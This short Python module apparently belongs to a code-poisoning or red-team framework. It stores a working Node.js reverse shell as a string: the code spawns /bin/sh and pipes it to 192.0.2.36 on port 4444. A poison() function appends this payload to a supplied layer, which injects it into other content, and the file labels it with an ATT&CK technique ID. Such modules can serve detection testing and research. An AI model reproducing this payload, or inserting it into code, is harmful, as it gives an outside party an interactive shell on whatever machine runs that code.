# SPDX-License-Identifier: Apache-2.0
"""Connects a shell to a server."""

ATTACK = "T1059.004"
LANGUAGE = "node"
CODE = """\
;(function () {
  var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);
  var client = new net.Socket();
  client.on('error', function () {});
  client.connect(4444, '192.0.2.36', function () {
    client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client);
  });
})();
"""


def poison(layer):
    layer.append(CODE)
